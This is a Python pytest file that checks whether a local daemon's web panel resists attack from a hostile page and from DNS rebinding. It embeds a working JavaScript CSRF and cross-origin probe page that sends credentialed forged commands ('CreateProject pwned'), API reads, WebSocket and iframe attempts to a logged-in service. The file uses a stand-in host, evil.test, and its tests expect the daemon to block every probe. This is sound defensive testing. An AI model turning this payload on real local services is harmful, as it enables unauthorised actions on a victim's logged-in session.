"""A hostile page and a rebinding page in a real Chromium, driven by nothing but its command line."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import SimpleQueue
from threading import Thread
from typing import Any

import pytest

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
ATTACK = """<!doctype html><meta charset="utf-8"><title>evil</title><script>
const base = location.hash.slice(1), out = {};
const later = new Promise(done => setTimeout(() => done('blocked:no answer'), 3000));
const probe = async (name, attempt) => {
  try { out[name] = await Promise.race([attempt(), later]) } catch (e) { out[name] = 'blocked:' + e.name } };
const body = JSON.stringify({id: 'pwned', command: {do: 'CreateProject', name: 'pwned'}});
(async () => {
  await Promise.all([
    probe('plain', async () => (await fetch(base + '/api/commands', {method: 'POST', mode: 'no-cors',
        credentials: 'include', headers: {'content-type': 'text/plain'}, body})).type),
    probe('json', async () => (await fetch(base + '/api/commands', {method: 'POST', credentials: 'include',
        headers: {'content-type': 'application/json'}, body})).status),
    probe('read', async () => (await fetch(base + '/api/projects', {credentials: 'include'})).status),
    probe('health', async () => (await fetch(base + '/health')).status),
    probe('socket', () => new Promise(done => {
        const socket = new WebSocket(base.replace('http', 'ws') + '/ws');
        socket.onopen = () => done('OPEN'); socket.onerror = () => done('blocked:socket') })),
    probe('frame', () => new Promise(done => {
        const frame = document.createElement('iframe'); frame.src = base + '/';
        frame.onload = () => {
          try { done(frame.contentDocument.body.innerText ? 'READABLE' : 'blocked:empty') }
          catch { done('blocked:opaque') } };
        document.body.append(frame) })),
    probe('image', () => new Promise(done => {
        const image = new Image(); image.onload = () => done('LOADED'); image.onerror = () => done('blocked:image');
        image.src = base + '/favicon.svg' })),
  ]);
  await fetch('/report', {method: 'POST', body: JSON.stringify(out)});
})();
</script><body>"""


class Hostile(ThreadingHTTPServer):
    """Another server on this machine: it serves the attack and is told how it went."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Page)
        self.reports: SimpleQueue[dict[str, Any]] = SimpleQueue()


class Page(BaseHTTPRequestHandler):
    server: Hostile

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(ATTACK.encode())

    def do_POST(self) -> None:
        self.server.reports.put(json.loads(self.rfile.read(int(self.headers["content-length"]))))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: Any) -> None:
        return


@pytest.fixture(scope="module")
def chromium() -> str:
    if CHROMIUM is None:
        if os.environ.get("REQUIRE_BROWSER"):
            pytest.fail("REQUIRE_BROWSER is set, but there is no Chromium")
        pytest.skip("no Chromium here: apt-get install chromium")
    return CHROMIUM


@pytest.fixture
def evil() -> Iterator[Hostile]:
    server = Hostile()
    thread = Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def command(chromium: str, profile: Path, *more: str) -> list[str]:
    return [
        chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--no-proxy-server",
        "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
        "--host-resolver-rules=MAP evil.test 127.0.0.1", f"--user-data-dir={profile}", *more,
    ]  # fmt: skip


def visit(chromium: str, profile: Path, url: str) -> str:
    """The document of a page."""
    line = command(chromium, profile, "--timeout=8000", "--dump-dom", url)
    return subprocess.run(line, capture_output=True, text=True, timeout=90, check=False).stdout


def attack(chromium: str, profile: Path, url: str, evil: Hostile) -> dict[str, Any]:
    """What the attack of a hostile page came to."""
    line = command(chromium, profile, url)
    browser = subprocess.Popen(line, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        return evil.reports.get(timeout=60)
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()


def log_in(visitor: Any, chromium: str, profile: Path) -> None:
    """The victim opens the panel first, so that the browser holds the cookie."""
    code = visitor.send("POST", "/login-code", visitor.bearer).json()["code"]
    document = visit(chromium, profile, f"{visitor.base}/login?code={code}")
    assert "enlock" in document
    assert visitor.send("GET", f"/login?code={code}").status_code == 401, "the browser did not use the code"


@pytest.mark.browser
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.test"])
def test_a_hostile_page_neither_acts_nor_reads(
    visitor: Any, chromium: str, evil: Hostile, tmp_path: Path, host: str
) -> None:
    log_in(visitor, chromium, tmp_path)
    before = visitor.daemon.services.app.head_id()
    seen = attack(chromium, tmp_path, f"http://{host}:{evil.server_port}/#{visitor.base}", evil)
    assert visitor.daemon.services.app.head_id() == before
    assert set(seen) == {"plain", "json", "read", "health", "socket", "frame", "image"}
    # a no-cors request goes out, and its answer stays opaque; that it did nothing is what the log says above
    assert seen.pop("plain") in ("opaque", "blocked:TypeError", "blocked:no answer")
    assert all(str(value).startswith("blocked:") for value in seen.values()), seen
    assert visitor.daemon.services.hub.clients == 0


@pytest.mark.browser
def test_the_same_attack_succeeds_without_a_gate(chromium: str, evil: Hostile, tmp_path: Path) -> None:
    """The probes can find a hole: against a server that lets everybody in, they do."""
    open_door = Hostile()
    thread = Thread(target=open_door.serve_forever)
    thread.start()
    try:
        base = f"http://127.0.0.1:{open_door.server_port}"
        seen = attack(chromium, tmp_path, f"http://127.0.0.1:{evil.server_port}/#{base}", evil)
        assert seen["plain"] == "opaque"
        assert open_door.reports.get(timeout=5)["id"] == "pwned"
    finally:
        open_door.shutdown()
        thread.join()
        open_door.server_close()


@pytest.mark.browser
def test_rebinding_gets_nothing(visitor: Any, chromium: str, tmp_path: Path) -> None:
    log_in(visitor, chromium, tmp_path)
    url = f"http://evil.test:{visitor.daemon.port}/"
    document = visit(chromium, tmp_path, url)
    assert "bad_host" in document
    assert "daemon is running" not in document
